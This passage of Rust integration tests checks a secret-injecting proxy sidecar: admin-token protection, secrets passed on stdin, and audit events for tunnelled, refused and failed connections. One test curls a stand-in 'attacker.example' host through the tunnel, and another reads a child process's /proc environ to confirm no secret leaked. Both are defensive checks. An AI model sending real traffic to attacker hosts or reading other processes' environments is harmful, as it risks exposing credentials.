        .sidecar
        .admin_request("PUT", "/secrets", body.to_string().as_bytes())
        .await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    assert_eq!(rotating_value_seen(&h, "replaced").await.as_deref(), Some(ROT_V4));

    let stdout = h.sidecar.stdout();
    for v in [ROT_V1, ROT_V2, ROT_V3, ROT_V4, ROT_STUB] {
        assert!(!stdout.contains(v), "{v} in logs");
    }
}

/// W10: no `admin_token_file` means a generated token, never an open admin API.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_admin_token_file_a_token_is_generated_and_required() {
    use std::os::unix::fs::PermissionsExt;
    let h = Harness::default_setup().await;
    let admin = h.sidecar.admin;
    for (method, path) in [
        ("GET", "/interceptions"),
        ("POST", "/reload"),
        ("PUT", "/secrets"),
        ("DELETE", "/secrets/ANTHROPIC_API_KEY"),
    ] {
        let r = within(
            Duration::from_secs(10),
            "admin",
            raw_request(admin, method, path, &[], b"{}"),
        )
        .await
        .expect("admin request");
        assert_eq!(r.status, 401, "{method} {path}: {}", r.body_text());
    }
    for path in ["/healthz", "/readyz", "/ca.pem", "/metrics"] {
        assert_eq!(get_status(admin, path).await, 200, "{path} stays open");
    }
    // The token is in a file only its owner may read, in a directory only its owner may open.
    let path = h
        .sidecar
        .log_json()
        .into_iter()
        .find(|l| l["message"] == "no admin_token_file: generated an admin token")
        .and_then(|l| l["path"].as_str().map(std::path::PathBuf::from))
        .expect("the generated token's path is logged");
    let mode = |p: &std::path::Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
    assert_eq!(mode(&path), 0o600);
    assert_eq!(mode(path.parent().expect("dir")), 0o700);
    let token = h.sidecar.admin_token();
    assert!(token.len() >= 32);
    assert!(!h.sidecar.stdout().contains(&token), "the token itself is never logged");
    assert_eq!(h.sidecar.admin_get("/interceptions").await.status, 200);
}

/// The local backend's start: the proxy port is a socket the supervisor bound (socket
/// activation, fd 3) and the secrets come on stdin; the config holds no value and names no
/// port; `ready_file` says where the admin port is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_on_stdin_and_an_inherited_listener() {
    use command_fds::{CommandFdExt, FdMapping};
    use std::io::Write as _;
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let dir = tempfile::tempdir().expect("tempdir");
    let ca = dir.path().join("ca.pem");
    let ready = dir.path().join("ready.json");
    let base = up.sidecar_config();
    let resolve: Vec<String> = base.resolve.iter().map(|(k, v)| format!("{k:?} = {v:?}")).collect();
    let upstream_cas: Vec<String> = base
        .upstream_ca_files
        .iter()
        .map(|p| format!("{:?}", p.display().to_string()))
        .collect();
    let config = format!(
        "admin_listen = \"127.0.0.1:0\"\nca_cert_path = {:?}\nready_file = {:?}\nsecrets_stdin = true\n\
         upstream_ca_files = [{}]\n[resolve]\n{}\n",
        ca.display().to_string(),
        ready.display().to_string(),
        upstream_cas.join(", "),
        resolve.join("\n")
    );
    assert!(!config.contains(ANTHROPIC_REAL));
    let config_path = dir.path().join("sidecar.toml");
    std::fs::write(&config_path, &config).expect("config");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let proxy = listener.local_addr().expect("addr");
    let mut cmd = std::process::Command::new(SIDECAR_BIN);
    cmd.arg("--config")
        .arg(&config_path)
        .env("LISTEN_FDS", "1")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    cmd.fd_mappings(vec![FdMapping {
        parent_fd: std::os::fd::OwnedFd::from(listener),
        child_fd: 3,
    }])
    .expect("fd 3");
    let mut child = cmd.spawn().expect("spawn");
    drop(cmd);
    let secrets = serde_json::json!({"secrets": [{
        "name": "ANTHROPIC_API_KEY", "stub": ANTHROPIC_STUB, "value": ANTHROPIC_REAL, "hosts": ["api.anthropic.com"]
    }]});
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(secrets.to_string().as_bytes())
        .expect("write secrets");
    let ready_json: serde_json::Value = eventually(Duration::from_secs(20), "the ready file", || {
        let ready = ready.clone();
        async move {
            std::fs::read(&ready)
                .ok()
                .and_then(|b| serde_json::from_slice::<serde_json::Value>(&b).ok())
        }
    })
    .await;
    assert_eq!(ready_json["listen"], proxy.to_string(), "{ready_json}");
    assert_ne!(ready_json["admin_listen"], "127.0.0.1:0", "{ready_json}");
    let out = Curl::bare(dir.path())
        .arg("--proxy")
        .arg(format!("http://{proxy}"))
        .arg("--cacert")
        .arg(ca.display().to_string())
        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
        .arg("https://api.anthropic.com/reflect")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    assert!(
        up.state.saw(ANTHROPIC_REAL),
        "the secret read from stdin was swapped in"
    );
    let environ = std::fs::read(format!("/proc/{}/environ", child.id())).expect("environ");
    assert!(!String::from_utf8_lossy(&environ).contains(ANTHROPIC_REAL));
    let _ = child.kill();
    let _ = child.wait();
}

/// Tunnelled and refused connections are audited too (issue 14): a CONNECT the sidecar relays
/// without reading (`intercept = "bound-hosts"`, a host no secret is bound to) is one `CONNECT`
/// event with its bytes once it closes, and a CONNECT the egress policy refuses is one with
/// `blocked: egress-policy`. Neither has a path or an injection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tunnelled_and_refused_connections_are_audited() {
    let h = Harness::start(Alpn::Both, |c| {
        c.intercept = Some("bound-hosts".into());
        c.egress_deny = vec!["*.denied.example".into()];
    })
    .await;
    // Tunnelled: curl meets the upstream's own certificate and gives up (exit 60) after the
    // handshake went through the tunnel.
    let out = h.sidecar.curl().arg("https://attacker.example/tunnelled").run().await;
    assert_eq!(out.exit, 60, "{}", out.stderr);
    let out = h.sidecar.curl().arg("https://api.denied.example/").run().await;
    assert_eq!(out.connect_status, 403, "{}", out.stderr);

    let events = lap_test_support::eventually_ok(Duration::from_secs(10), "both connections audited", || async {
        let r = h.sidecar.admin_get("/interceptions").await;
        let events: Vec<serde_json::Value> = serde_json::from_slice(&r.body).map_err(|e| e.to_string())?;
        let connects: Vec<serde_json::Value> = events.into_iter().filter(|e| e["method"] == "CONNECT").collect();
        if connects.len() == 2 {
            Ok(connects)
        } else {
            Err(format!("{connects:?}"))
        }
    })
    .await;
    let tunnel = events
        .iter()
        .find(|e| e["host"] == "attacker.example")
        .expect("the tunnel's event");
    assert_eq!(
        (tunnel["port"].as_u64(), tunnel["status"].as_u64()),
        (Some(443), Some(200)),
        "{tunnel}"
    );
    assert!(
        tunnel["bytes_up"].as_u64() > Some(0) && tunnel["bytes_down"].as_u64() > Some(0),
        "{tunnel}"
    );
    assert_eq!(
        (tunnel["path"].as_str(), tunnel["injected"].as_array().map(Vec::len)),
        (Some(""), Some(0))
    );
    let denied = events
        .iter()
        .find(|e| e["host"] == "api.denied.example")
        .expect("the refusal's event");
    assert_eq!(denied["status"], 403, "{denied}");
    assert_eq!(denied["blocked"], "egress-policy", "{denied}");
}

/// A request whose upstream cannot be resolved never carried the real value anywhere: its
/// audit event says `dns` and lists nothing as injected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_that_never_left_injected_nothing() {
    const STUB: &str = "lapstub-nowhere-0123456789";
    let h = Harness::start(Alpn::Both, |c| {
        c.secrets.push(SecretSpec::new(
            "NOWHERE_KEY",
            STUB,
            "real-nowhere-value-0123456789",
            &["nx.lap-test.invalid"],
            &["header:x-api-key"],
        ));
    })
    .await;
    let out = h
        .sidecar
        .curl()
        .args(["-H", &format!("x-api-key: {STUB}")])
        .arg("https://nx.lap-test.invalid/v1")
        .run()
        .await;
    assert_eq!(out.status, 502, "{}", out.stderr);
    let event = lap_test_support::eventually_ok(Duration::from_secs(10), "the request audited", || async {
        let r = h.sidecar.admin_get("/interceptions").await;
        let events: Vec<serde_json::Value> = serde_json::from_slice(&r.body).map_err(|e| e.to_string())?;
        events
            .into_iter()
            .find(|e| e["host"] == "nx.lap-test.invalid" && e["method"] == "GET")
            .ok_or_else(|| "no event yet".to_owned())
    })
    .await;
    assert_eq!(event["error"], "dns", "{event}");
    assert_eq!(
        event["injected"],
        serde_json::json!([]),
        "nothing left the sidecar: {event}"
    );
}
